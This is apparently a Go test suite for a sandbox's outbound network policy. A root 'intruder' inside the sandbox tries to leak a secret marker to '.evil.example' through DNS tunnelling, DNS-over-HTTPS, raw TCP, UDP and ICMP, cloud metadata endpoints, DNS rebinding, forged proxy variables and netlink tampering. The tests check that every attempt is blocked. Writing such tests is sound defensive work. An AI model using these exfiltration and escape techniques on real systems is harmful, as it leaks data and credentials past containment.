package attacks

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/bothy-dev/bothy/spec"
	"github.com/bothy-dev/bothy/test/harness"
	"github.com/bothy-dev/bothy/test/stage"
)

// The attacks on the way out (A). A test runs hostile code inside, and checks what the host sent: only
// traffic that a rule allows. Each time an allowed request arrives, which proves that the test would
// have seen other traffic.

// The hosts that all these sandboxes may reach, one by IPv4 and one by IPv6, the ways to them, and
// the traffic of those ways.
const (
	allowed4, allowed6 = "four.ok.example", "six.ok.example"
	control4, control6 = "hello=" + allowed4 + ":443", "hello=" + allowed6 + ":443"
)

var controlLeaves = []string{
	"dns " + allowed4, "dns " + allowed6, "tcp " + stage.Host4.String() + ":443", "tcp [" + stage.Host6.String() + "]:443",
}

// spy is a sandbox with hostile code in it.
type spy struct {
	*harness.Caller
	stage *stage.Stage
	mark  string // of its secret
	me    string
}

// newSpy makes the sandbox box, which may reach two hosts.
func newSpy(t *testing.T, c *harness.Caller, s *stage.Stage) *spy {
	t.Helper()
	s.Leads(allowed4, stage.Host4.String())
	s.Leads(allowed6, stage.Host6.String())
	c.Must(t, "policy", "allow", allowed4+":443", allowed6+":443")
	p := &spy{Caller: c, stage: s, mark: newMark(), me: c.Plant(t, c.Work)}
	c.Must(t, "create", "--name", "box", "shell", c.Work)
	return p
}

// tries runs the hostile code as root inside, and then reaches the allowed hosts.
func (p *spy) tries(t *testing.T, ways ...string) string {
	t.Helper()
	return p.reaches(t, p.Must(t, append([]string{"exec", "-u", "root", "box"}, p.argv(ways...)...)...))
}

// argv returns the hostile program with its arguments.
func (p *spy) argv(ways ...string) []string {
	return append(append([]string{p.me, "intruder", "net", p.mark}, ways...), "then", control4, control6)
}

// reaches checks that the allowed hosts were reached.
func (p *spy) reaches(t *testing.T, out string) string {
	t.Helper()
	if !strings.Contains(out, "GOT "+control4+`: "hello`) || !strings.Contains(out, "GOT "+control6+`: "hello`) {
		t.Errorf("what is allowed was not reached:\n%s", out)
	}
	return out
}

// onlyControl stops the sandbox, so that everything is done, and reports any traffic except the messages
// to the allowed hosts and, if given, more.
func (p *spy) onlyControl(t *testing.T, more ...string) {
	t.Helper()
	p.ends(t)
	p.stage.OnlyLeft(t, append(more, controlLeaves...)...)
}

// ends stops the sandbox, and reports if its secret went out.
func (p *spy) ends(t *testing.T) {
	t.Helper()
	if r := p.Run("stop", "box"); r.Code != 0 {
		t.Errorf("%v", r)
	}
	p.stage.Fence(t)
	if p.stage.Carries(p.mark) {
		t.Error("the secret left the host")
	}
	for _, v := range p.stage.Saw() {
		if strings.Contains(v.Said, p.mark) {
			t.Errorf("%s was told %q", v.At, v.Said)
		}
	}
}

// literals are hosts by address: IPv4, IPv6, and IPv4 in all the ways in which IPv6 can write it.
var literals = []string{
	"8.8.8.8", "1.1.1.1", "[2001:4860:4860::8888]", "[2606:4700:4700::1111]", "[::ffff:8.8.8.8]", "[64:ff9b::808:808]", "[2002:808:808::1]",
}

// everyWay returns all ways in which a host might be reached.
func everyWay(host string) []string {
	bare := strings.Trim(host, "[]")
	return []string{
		"tcp=" + host + ":443", "tcp=" + host + ":22", "http=" + host + ":80", "tcp=" + host + ":5432", "udp=" + host + ":53", "udp=" + host + ":443",
		"udp=" + host + ":5353", "ping=" + bare, "frame=" + bare,
	}
}

// forbidden returns one of each way that no sandbox here may use.
func (p *spy) forbidden() []string {
	name := p.mark + ".evil.example"
	ways := []string{"tcp=" + name + ":443", "dns=198.18.0.1:53/16/" + name, "dns=8.8.8.8:53/16/" + name, "tcp=192.168.7.7:22", "tcp=169.254.169.254:80"}
	for _, host := range []string{"8.8.8.8", "[2001:4860:4860::8888]"} {
		ways = append(ways, everyWay(host)...)
	}
	return ways
}

// TestA1NamesStayInside checks that a question for a name that is not allowed never leaves the host: not
// of any type, not over TCP, not to another resolver, not over TLS, HTTPS or QUIC.
func TestA1NamesStayInside(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		var ways []string
		for _, kind := range []string{"0", "1", "5", "10", "12", "15", "16", "28", "33", "65", "252", "255"} { // A, CNAME, NULL, PTR, MX, TXT, AAAA, SRV, HTTPS, AXFR, ANY
			for _, server := range []string{"198.18.0.1", "[fd62:6f74:6879::1]"} {
				for _, name := range []string{p.mark + ".evil.example", p.mark + "." + allowed4, allowed4 + "." + p.mark + ".example"} {
					ways = append(ways, "dns="+server+":53/"+kind+"/"+name, "tdns="+server+":53/"+kind+"/"+name)
				}
			}
		}
		for _, r := range append(literals, stage.Resolver.String()) {
			ways = append(ways, "dns="+r+":53/16/"+p.mark+".evil.example", "tdns="+r+":53/16/"+p.mark+".evil.example",
				"tcp="+r+":853", "udp="+r+":853", "sni="+r+":853/"+p.mark+".dns.google", "tcp="+r+":443", "udp="+r+":443", "http="+r+":80", "udp="+r+":5353")
		}
		for _, name := range []string{"dns.google", "cloudflare-dns.com", "dns.quad9.net", "mozilla.cloudflare-dns.com", p.mark + ".evil.example"} {
			ways = append(ways, "tcp="+name+":443", "tcp="+name+":853", "web=https://"+name+"/dns-query?dns="+p.mark)
		}
		if out := p.tries(t, ways...); strings.Count(out, "GOT dns=198.18.0.1:53") == 0 || strings.Count(out, "GOT tdns=[fd62:6f74:6879::1]:53") == 0 {
			t.Errorf("the sandbox's own name server does not answer:\n%s", out)
		}
		p.onlyControl(t)
	})
}

// TestA1TalkInNamesIsRationed checks that below an allowed wildcard only as many names leave as can
// carry a few KiB.
func TestA1TalkInNamesIsRationed(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		c.Must(t, "policy", "allow", "**.wide.example")
		p.tries(t, "names=wide.example,220")
		p.ends(t)
		carried := 0
		for _, what := range s.Left(t) {
			if strings.HasSuffix(what, ".wide.example") {
				carried += 37
			}
		}
		if carried == 0 || carried > 7<<10 {
			t.Errorf("%d bytes left in names", carried)
		}
	})
}

// TestA2NobodyAsksForADeniedName checks that no component looks up a denied name, inside or
// outside, for any purpose.
func TestA2NobodyAsksForADeniedName(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		name := p.mark + ".evil.example"
		c.Write(t, c.Work+"/bothy.yaml", "network: {allow: ["+name+", "+allowed4+", "+allowed6+"]}\n")
		p.tries(t, "web=http://policy.bothy/check?url=https://"+name+"/", "web=http://"+name+"/", "tcp="+name+":22", "dns=198.18.0.1:53/1/"+name)
		c.Must(t, "policy", "deny", name, "--sandbox", "box")
		for _, args := range [][]string{
			{"policy", "check", "https://" + name + "/", "--sandbox", "box"},
			{"policy", "check", name},
			{"policy", "ls", "--sandbox", "box"},
			{"policy", "lint"},
			{"policy", "log", "box"},
			{"network", "log"},
			{"inspect", "box"},
			{"logs", "--source", "network", "box"},
			{"top"},
			{"doctor"},
		} {
			c.Run(args...)
		}
		p.tries(t, "tcp="+name+":443")
		p.onlyControl(t)
	})
}

// TestA3ICMPStaysInside tries ICMP in a fresh sandbox, in one that was stopped, and after its keeper was
// killed. The log then records the connection that was open.
func TestA3ICMPStaysInside(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		var ways []string
		for _, to := range []string{"8.8.8.8", "2001:4860:4860::8888", "192.168.7.7", "fd12:3456::7", "198.18.0.1", "fd62:6f74:6879::1", stage.Host4.String(), stage.Host6.String()} {
			ways = append(ways, "ping="+to)
		}
		p.tries(t, ways...)
		c.Must(t, "stop", "box")
		p.tries(t, ways...)
		p.holds(t, "held.example")
		kill(t, c, "box")
		if list := flows(t, c, "held.example"); len(list) != 1 || list[0].State != spec.FlowOpened || list[0].Verdict != spec.VerdictAllow || list[0].Addr != stage.Host4 {
			t.Errorf("of an open connection is left %+v", list)
		}
		if out := c.Must(t, "policy", "log", "-q", "box"); !regexp.MustCompile(`(?m)^box +held\.example:443 +allow +1 `).MatchString(out) {
			t.Errorf("it is summed up as\n%s", out)
		}
		p.tries(t, ways...)
		p.told(t, spec.ProtocolICMP, "192.168.7.7", 0)
		p.onlyControl(t, "dns held.example")
	})
}

// holds makes a program inside keep a connection to a host open.
func (p *spy) holds(t *testing.T, host string) {
	t.Helper()
	p.stage.Leads(host, stage.Host4.String())
	p.Must(t, "policy", "allow", host+":443")
	p.Must(t, "exec", "-d", "box", "bash", "-c", "exec 3<>/dev/tcp/"+host+"/443 && echo x >&3 && read x <&3 && touch held && sleep 600")
	harness.WaitFor(t, harness.Timeout, "a connection", func() bool {
		_, err := os.Stat(filepath.Join(p.Work, "held"))
		return err == nil
	})
}

// flows returns the records of the sandbox box about flows to a host, or to any host if it is empty.
func flows(t *testing.T, c *harness.Caller, host string) (list []spec.NetworkRecord) {
	t.Helper()
	for line := range strings.Lines(c.Must(t, "logs", "--source", "network", "--json", "box")) {
		var r spec.NetworkRecord
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		if r.Event == spec.NetworkFlow && (host == "" || r.Name == host) {
			list = append(list, r)
		}
	}
	return list
}

// told checks that the log of the sandbox box has the packets that were refused.
func (p *spy) told(t *testing.T, protocol, host string, port uint16) {
	t.Helper()
	harness.WaitFor(t, harness.Timeout, "a record of "+protocol, func() bool {
		return slices.ContainsFunc(flows(t, p.Caller, ""), func(r spec.NetworkRecord) bool {
			return r.Protocol == protocol && (r.Name == host || r.Addr.String() == host) && r.Port == port && r.Verdict == spec.VerdictDeny && r.Reason != ""
		})
	})
}

// kill kills a sandbox's keeper like the kernel when memory runs out.
func kill(t *testing.T, c *harness.Caller, name string) {
	t.Helper()
	m := c.Machine(t, name)
	if err := syscall.Kill(m.Keeper, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	harness.WaitFor(t, harness.Timeout, "the sandbox's end", func() bool { return !harness.Alive(m.Keeper) && !harness.Alive(m.Sentry) })
}

// TestA4EveryWayToRun checks that the policy applies on every way to a running sandbox.
func TestA4EveryWayToRun(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		argv := p.argv(p.forbidden()...)
		with := func(args ...string) []string { return append(args, argv...) }
		plugin := filepath.Join(c.Base, "docker-sandbox")
		if err := os.Symlink(c.Binary, plugin); err != nil {
			t.Fatal(err)
		}
		for _, way := range []struct {
			name  string
			first func()
			args  []string
		}{
			{"create and exec", nil, with("exec", "box")},
			{"exec in a running one", nil, with("exec", "-u", "root", "box")},
			{"exec after stop", func() { c.Must(t, "stop", "box") }, with("exec", "box")},
			{"run after stop", func() { c.Must(t, "stop", "box") }, with("run", "--name", "box", "--")},
			{"run in a running one", nil, with("run", "--name", "box", "--")},
			{"exec after the keeper was killed", func() { kill(t, c, "box") }, with("exec", "box")},
			{"exec after copying", func() {
				c.Must(t, "stop", "box")
				c.Must(t, "cp", c.Write(t, c.Home+"/note", "note"), "box:/tmp/note")
			}, with("exec", "box")},
			{"run", nil, with("run", "--name", "new", "shell", ".", "--")},
			{"run --rm", nil, with("run", "--rm", "shell", ".", "--")},
			{"the same name again", func() { c.Must(t, "rm", "-f", "new") }, with("run", "--name", "new", "shell", ".", "--")},
		} {
			if way.first != nil {
				way.first()
			}
			t.Run(way.name, func(t *testing.T) { p.reaches(t, c.Must(t, way.args...)) })
		}
		for name, args := range map[string][]string{
			"plugin: run":       with("sandbox", "run", "--name", "docked", "shell", ".", "--"),
			"plugin: exec":      with("sandbox", "exec", "box"),
			"plugin: run again": with("sandbox", "run", "--rm", "shell", ".", "--"),
		} {
			t.Run(name, func(t *testing.T) {
				ctx, cancel := context.WithTimeout(t.Context(), harness.Timeout)
				defer cancel()
				cmd := c.Command(ctx, args...)
				cmd.Path, cmd.Args[0] = plugin, plugin
				p.reaches(t, harness.Finish(ctx, cmd, args).Stdout)
			})
		}
		c.Must(t, "network", "proxy", "new", "--policy", "deny", "--allow-host", "extra.example")
		t.Run("after docker's rules", func(t *testing.T) { p.reaches(t, c.Must(t, with("exec", "new")...)) })
		t.Run("with rules of its own", func(t *testing.T) {
			p.reaches(t, c.Must(t, with("run", "--rm", "--allow", "extra.example", "--preset", "npm", "shell", ".", "--")...))
		})
		for name, args := range map[string][]string{
			"run -d": with("run", "-d", "--name", "away", "shell", ".", "--"), "exec -d": with("exec", "-d", "box"),
		} {
			t.Run(name, func(t *testing.T) {
				s.Saw()
				c.Must(t, args...)
				hellos := 0
				harness.WaitFor(t, harness.Timeout, "what is allowed to arrive", func() bool {
					for _, v := range s.Saw() {
						if v.Said == "hello\n" {
							hellos++
						}
					}
					return hellos == 2
				})
			})
		}
		// From saved sandboxes, and next to existing ones.
		c.Must(t, "create", "--name", "kin", "--workspace", "review", "shell", c.Work)
		c.Must(t, "exec", "-u", "root", "kin", "cp", p.me, inImage)
		c.Must(t, "exec", "-d", "kin", "sh", "-c", "until [ -e /tmp/go ]; do sleep 0.1; done; "+p.saying("went-on"))
		carried := filepath.Join(c.Base, "carried")
		restore := []string{"checkpoint", "restore", "-f", "kin", "point"}
		goOn := func(name string) []string { return []string{"exec", name, "touch", "/tmp/go"} }
		for _, way := range []struct {
			name   string
			first  [][]string
			args   []string
			wentOn bool
		}{
			{"in review", nil, with("exec", "kin"), false},
			{"from a full checkpoint", [][]string{{"checkpoint", "create", "--full", "kin", "point"}, restore, goOn("kin")}, with("exec", "kin"), true},
			{"from its files", [][]string{append(restore, "--files")}, with("exec", "kin"), false},
			{"a new one from a full checkpoint", [][]string{{"checkpoint", "restore", "--to", "sprung", "kin", "point"}, goOn("sprung")}, with("exec", "sprung"), true},
			{"a new one from a file", [][]string{{"checkpoint", "export", "-o", carried, "kin", "point"}, {"checkpoint", "import", "--name", "carried", carried}}, with("exec", "carried"), false},
			{"a fork of a running one", [][]string{{"fork", "--name", "twin", "kin"}}, with("exec", "twin"), false},
			{"from a template", [][]string{{"save", "kin", "kept:v1"}}, with("run", "--rm", "-t", "kept:v1", "shell", ".", "--"), false},
		} {
			s.Saw()
			for _, args := range way.first {
				c.Must(t, args...)
			}
			t.Run(way.name, func(t *testing.T) {
				p.reaches(t, c.Must(t, way.args...))
				if way.wentOn {
					p.heard(t, "went-on")
				}
			})
		}
		if c.UID != 0 { // once is enough: the caller makes no difference to the network
			t.Run("a loop", func(t *testing.T) { p.loops(t, "kept:v1") })
			t.Run("a loop of ralph", p.ralphs)
			image := p.image(t)
			t.Run("a build", func(t *testing.T) { p.builds(t, image) })
			t.Run("a devcontainer.json", func(t *testing.T) { p.devcontainers(t, image) })
		}
		t.Run("a clone", func(t *testing.T) { p.clones(t, "kept:v1") })
		flow := c.Write(t, filepath.Join(c.Base, "flow.yaml"), fmt.Sprintf("name: spied\nsteps:\n  - {id: a, output: a.txt, command: '%[1]s > \"$BOTHY_OUTPUT\"'}\n  - {id: b, fresh: true, output: b.txt, command: '%[1]s'}\n", strings.Join(argv, " ")))
		c.Must(t, "flow", "run", "--rm", flow, c.Work)
		for _, step := range []string{"a", "b"} {
			t.Run("step "+step+" of a flow", func(t *testing.T) {
				made, err := filepath.Glob(filepath.Join(c.State, "runs", "spied-*", "outputs", step+".txt"))
				if err != nil || len(made) != 1 {
					t.Fatalf("its output is %q: %v", made, err)
				}
				b, err := os.ReadFile(made[0])
				if err != nil {
					t.Fatal(err)
				}
				p.reaches(t, string(b))
			})
		}
		c.Must(t, "rm", "-f", "new", "docked", "away", "kin", "sprung", "carried", "twin")
		p.onlyControl(t)
	})
}

// TestA5NothingIsNotEverything checks that without rules nothing is allowed, and that unreadable rules
// are an error: no sandbox runs with them.
func TestA5NothingIsNotEverything(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		file := filepath.Join(c.State, "policy.yaml")
		if err := os.Remove(file); err != nil {
			t.Fatal(err)
		}
		args := append([]string{"exec", "box"}, p.argv(p.forbidden()...)...)
		if out := c.Must(t, args...); strings.Contains(out, "GOT hello") {
			t.Errorf("without rules:\n%s", out)
		}
		c.Must(t, "stop", "box")
		for _, text := range []string{
			"", "null\n", "{}\n", "[]\n", "version: 1\nallow:\n", "version: 1\nallow: []\n", "version: 1\nallow: null\n", "version: 1\nallow: ['']\n",
			"version: 1\nallows: [" + allowed4 + "]\n", "version: 1\ndefault: open\n", "version: 1\npresets: [everything]\n", "version: 2\nallow: [" + allowed4 + "]\n",
		} {
			c.Write(t, file, text)
			if r := c.Run(args...); r.Code == 0 || strings.Contains(r.Stdout, "GOT hello") || !strings.Contains(r.Stderr, "policy.yaml") {
				t.Errorf("with %q: %v", text, r)
			}
		}
		if err := os.Remove(file); err != nil {
			t.Fatal(err)
		}
		p.ends(t)
		s.OnlyLeft(t)
	})
}

// TestA6ContradictionsAreErrors checks that a contradiction is an error and that no rule is
// silently dropped.
func TestA6ContradictionsAreErrors(t *testing.T) {
	harness.AsUser(t)
	harness.Each(t, func(t *testing.T, c *harness.Caller) {
		c.Must(t, "create", "--name", "box", "shell", c.Work)
		for _, args := range [][]string{
			{"policy", "allow", "a.example", "a.example:443", ""},
			{"policy", "allow"},
			{"policy", "allow", "a.example,b.example"},
			{"policy", "allow", "10.0.0.0/8", "--method", "get"},
			{"policy", "allow", "a.example", "--path", "relative"},
			{"policy", "allow", "a.example", "--for", "-1h"},
			{"policy", "allow", "--preset", "none"},
			{"policy", "deny", "--preset", "npm"},
			{"policy", "allow", "--preset", "npm", "--method", "GET"},
			{"policy", "allow", "a.example", "--sandbox", ""},
			{"create", "--name", "new", "--allow", "a.example", "--deny", "a.example", "shell"},
			{"create", "--name", "new", "--preset", "none", "--preset", "npm", "shell"},
			{"create", "--name", "new", "--allow", "", "shell"},
			{"run", "--name", "new", "--preset", "none", "--allow", "a.example", "shell", ".", "--", "true"},
			{"network", "proxy", "box", "--allow-host", "a.example", "--block-host", "a.example"},
			{"network", "proxy", "box", "--policy", "maybe"},
			{"network", "proxy", "box", "--allow-cidr", "a.example"},
		} {
			if r := c.Run(args...); r.Code != 2 || !strings.Contains(r.Stderr, "bothy: ") {
				t.Errorf("%v", r)
			}
		}
		if out := c.Must(t, "policy", "ls"); strings.Contains(out, "a.example") {
			t.Errorf("a part of a wrong command was done:\n%s", out)
		}
		for _, text := range []string{
			"network: {presets: [none, npm]}\n", "network: {presets: [npm, npm]}\n", "network: {allow: [{host: a.example, passthrough: true, methods: [GET]}]}\n",
			"network: {allow: [{host: a.example, passthrough: true, inspect: true}]}\n", "network: {allow: [a.example, A.example]}\n",
		} {
			c.Write(t, c.Work+"/bothy.yaml", text)
			if r := c.Run("exec", "box", "true"); r.Code == 0 || !strings.Contains(r.Stderr, "bothy.yaml") {
				t.Errorf("with %q: %v", text, r)
			}
		}
		c.Must(t, "rm", "-f", "box")
	})
}

// TestA7BothFamilies checks that a closed target is closed by IPv4, IPv6, and IPv4 in IPv6, and
// that a rule for one opens no other.
func TestA7BothFamilies(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		c.Must(t, "policy", "allow", "203.14.0.0/16:443", "[2606:4444::/32]:443")
		var ways []string
		for _, host := range literals {
			ways = append(ways, everyWay(host)...)
		}
		// Only the addresses themselves, at that port, are open.
		ways = append(ways, "tcp=[64:ff9b::cb0e:1]:443", "tcp=[2002:cb0e:1::1]:443", "tcp=203.15.0.1:443", "tcp=203.14.0.1:80", "tcp=[2606:4445::1]:443", "tcp=[2606:4444::1]:80", "udp=203.14.0.1:443")
		out := p.tries(t, append(ways, "then", "hello=203.14.0.1:443", "hello=[2606:4444::1]:443", "hello=[::ffff:203.14.0.2]:443")...)
		for _, want := range []string{"GOT hello=203.14.0.1:443", "GOT hello=[2606:4444::1]:443"} {
			if !strings.Contains(out, want) {
				t.Errorf("no %q in\n%s", want, out)
			}
		}
		// For the kernel inside a mapped address is IPv4.
		p.onlyControl(t, "tcp 203.14.0.1:443", "tcp 203.14.0.2:443", "tcp [2606:4444::1]:443")
	})
}

// TestA8RootCannotRemoveTheNetwork has root inside take its card apart with netlink. Closed targets stay
// closed after any change, and later connections are judged as before.
func TestA8RootCannotRemoveTheNetwork(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		canaries := []string{"then", "tampered", "tcp=8.8.8.8:443", "tcp=[2001:4860:4860::8888]:443", "udp=8.8.8.8:53", "tcp=192.168.7.7:22", "ping=8.8.8.8", "frame=8.8.8.8", "frame=192.168.7.7", "frame=2001:4860:4860::8888"}
		attack := func(steps ...string) string {
			ways := append([]string{"exec", "-u", "root", "box", p.me, "intruder", "net", p.mark}, steps...)
			return c.Must(t, append(ways, canaries...)...)
		}
		taken := []string{"192.168.7.8/24", "8.8.8.8/32", "10.0.0.1/8", "2001:4860:4860::1/64", "127.0.0.2/8", "198.18.0.1/15", "fd62:6f74:6879::1/64"}
		var back []string
		for _, how := range append(taken, "namespace", "new card", "no routes", "routes", "no addresses", "10.1.1.1/8", "down") {
			if out := attack("tamper=" + how); !strings.Contains(out, "GOT tamper=") && !strings.Contains(how, "routes") {
				t.Errorf("%s cannot be done, so it tests nothing:\n%s", how, out)
			}
			if strings.Contains(how, "/") {
				back = append(back, "tamper=-"+how)
			}
		}
		p.tries(t, append(append(back, "tamper=own addresses", "tamper=up", "then"), p.forbidden()...)...)
		attack("tamper=no card")
		c.Must(t, "stop", "box")
		p.tries(t, p.forbidden()...)
		p.onlyControl(t)
	})
}

// TestA9NamesThatLeadAstray makes an allowed name lead to an address that is closed, at once or the
// second time.
func TestA9NamesThatLeadAstray(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		c.Must(t, "policy", "allow", "*.astray.example")
		var ways, leaves []string
		for i, to := range []string{
			"127.0.0.1", "127.0.0.53", "0.0.0.0", "10.0.0.1", "172.16.0.1", "192.168.7.7", "169.254.169.254", "100.64.0.1", "100.100.100.200", "198.18.0.1", "198.51.100.1",
			"192.0.0.1", "192.88.99.1", "224.0.0.1", "240.0.0.1", "255.255.255.255",
			"::1", "::", "fe80::1", "fec0::1", "fd12:3456::7", "fd00:ec2::254", "ff02::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe",
			"64:ff9b:1::1", "2002:7f00:1::1", "2001:0:1::1", "2001:db8::1",
		} {
			name := fmt.Sprintf("n%d.astray.example", i)
			s.Leads(name, to)
			ways, leaves = append(ways, "tcp="+name+":443", "tcp="+name+":22"), append(leaves, "dns "+name)
		}
		s.Leads("turns.astray.example", stage.Host4.String())
		if out := p.tries(t, append(ways, "hello=turns.astray.example:443")...); !strings.Contains(out, "GOT hello=turns.") {
			t.Errorf("an honest answer does not lead anywhere:\n%s", out)
		}
		s.Leads("turns.astray.example", "192.168.7.7", "169.254.169.254", "::1")
		p.tries(t, "tcp=turns.astray.example:443")
		p.onlyControl(t, append(leaves, "dns turns.astray.example")...)
	})
}

// TestA10LiteralWithAllowedName checks that a name shown in TLS opens no address, and that an
// address of an allowed name answers for no other name.
func TestA10LiteralWithAllowedName(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		var ways []string
		for _, host := range append(literals, stage.Host4.String(), "["+stage.Host6.String()+"]") {
			ways = append(ways, "sni="+host+":443/"+allowed4, "sni="+host+":443/"+allowed6)
		}
		ways = append(ways, "sni="+allowed4+":443/"+p.mark+".evil.example", "sni="+allowed4+":443/"+p.mark+"."+allowed4)
		for _, how := range []string{"dot", "alert", "postgres"} {
			ways = append(ways, "disguise="+how+"/"+allowed4+":443/"+p.mark+".evil.example")
		}
		p.tries(t, ways...)
		p.onlyControl(t)
	})
}

// TestA13PlainHTTP checks that HTTP without TLS is judged in the same way, at its own port and at any
// other.
func TestA13PlainHTTP(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		c.Must(t, "policy", "allow", allowed4+":80", allowed4+":8080", "--method", "GET", "--path", "/public/**")
		var ways []string
		for _, port := range []string{"80", "8080", "3128", "443"} {
			for _, host := range []string{p.mark + ".evil.example", "8.8.8.8", "[2001:4860:4860::8888]", allowed6} {
				if host != allowed6 || port != "443" {
					ways = append(ways, "web=http://"+host+":"+port+"/"+p.mark)
				}
			}
			if port != "443" {
				ways = append(ways, "web=http://"+allowed4+":"+port+"/"+p.mark)
			}
		}
		out := p.tries(t, append(ways, "web=http://"+allowed4+"/public/page", "web=http://"+allowed4+":8080/public/page")...)
		if strings.Count(out, `"200 welcome\n"`) != 2 || strings.Count(out, `"403 `) != 2 {
			t.Errorf("two requests should pass, and two be refused with a reason:\n%s", out)
		}
		for _, v := range s.Saw() {
			if v.Said != "hello\n" && !strings.HasPrefix(v.Said, "GET /public/page ") {
				t.Errorf("%s was told %q", v.At, v.Said)
			}
		}
		p.onlyControl(t, "tcp "+stage.Host4.String()+":80", "tcp "+stage.Host4.String()+":8080")
	})
}

// TestA14ProxyVariables checks that unset, forged or widened proxy variables open nothing, and that
// allowed targets work without any.
func TestA14ProxyVariables(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		c.Must(t, "policy", "allow", allowed4+":80")
		ways := p.argv("web=http://"+p.mark+".evil.example/", "web=https://"+p.mark+".evil.example/", "web=http://8.8.8.8/"+p.mark, "web=http://"+allowed4+"/")
		for _, proxy := range []string{"", "http://8.8.8.8:3128", "http://[2001:4860:4860::8888]:3128", "http://192.168.7.7:3128", "http://198.18.0.1:80"} {
			for _, not := range []string{"evil.example", "*"} {
				args := []string{"exec"}
				for _, v := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"} {
					args = append(args, "-e", v+"="+proxy)
				}
				args = append(args, "-e", "NO_PROXY="+not, "-e", "no_proxy="+not, "box")
				out := p.reaches(t, c.Must(t, append(args, ways...)...))
				if direct := proxy == "" || not == "*"; direct != strings.Contains(out, `GOT web=http://`+allowed4+`/: "200 welcome`) {
					t.Errorf("with proxy %q, but not for %q:\n%s", proxy, not, out)
				}
			}
		}
		p.onlyControl(t, "tcp "+stage.Host4.String()+":80")
	})
}

// TestA15Metadata checks that the metadata services of clouds stay closed under preset open, by
// address, by name and by a name that leads there.
func TestA15Metadata(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		c.Write(t, filepath.Join(c.State, "policy.yaml"), "version: 1\npresets: [open]\n")
		var ways, leaves []string
		for i, a := range []string{
			"169.254.169.254", "169.254.170.2", "169.254.170.23", "168.63.129.16", "100.100.100.200", "192.0.0.192", "fd00:ec2::254", "fd00:ec2::23", "fd20:ce::254",
			"::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "64:ff9b::a83f:8110",
		} {
			name := fmt.Sprintf("n%d.rebound.example", i)
			s.Leads(name, a)
			leaves = append(leaves, "dns "+name)
			host := a
			if strings.Contains(a, ":") {
				host = "[" + a + "]"
			}
			for _, host := range []string{host, name} {
				ways = append(ways, "tcp="+host+":80", "tcp="+host+":443", "http="+host+":8080")
			}
			ways = append(ways, "udp="+host+":53")
		}
		for _, name := range []string{"metadata.google.internal", "metadata", "instance-data", "instance-data.ec2.internal", "metadata.internal"} {
			s.Leads(name, "169.254.169.254")
			ways = append(ways, "tcp="+name+":80", "dns=198.18.0.1:53/1/"+p.mark+"."+name)
		}
		p.tries(t, ways...)
		p.onlyControl(t, leaves...)
	})
}

// TestA16UDPIsRefused checks that QUIC and other datagrams are refused at once, by name and by
// address, so that programs fall back to TCP.
func TestA16UDPIsRefused(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		c.Must(t, "policy", "allow", "203.14.0.0/16", "[2606:4444::/32]", "udp.ok.example")
		var ways []string
		for _, host := range []string{allowed4, allowed6, "udp.ok.example", "203.14.0.1", "[2606:4444::1]", "8.8.8.8", "[2001:4860:4860::8888]", "198.18.0.1"} {
			for _, port := range []string{"443", "80", "123", "853", "4500", "51820"} {
				ways = append(ways, "udp="+host+":"+port)
			}
		}
		out := p.tries(t, ways...)
		for line := range strings.Lines(out) {
			if strings.Contains(line, "udp=") && !strings.HasSuffix(line, "connection refused\n") {
				t.Errorf("not refused: %s", line)
			}
		}
		p.told(t, spec.ProtocolUDP, allowed6, 443)
		p.onlyControl(t)
	})
}

// TestA20HostAndNeighbours checks that the host, its network, the gateway itself and other sandboxes are
// closed, even if every public host is open.
func TestA20HostAndNeighbours(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		c.Write(t, filepath.Join(c.State, "policy.yaml"), "version: 1\npresets: [open]\n")
		c.Must(t, "run", "-d", "--name", "neighbour", "shell", ".", "--", p.me, "intruder", "net", p.mark, "serve=7777")
		harness.WaitFor(t, harness.Timeout, "the neighbour", func() bool { _, err := os.Lstat(c.Work + "/serving"); return err == nil })
		// The host is on the internet, too, and its rules do not mention that.
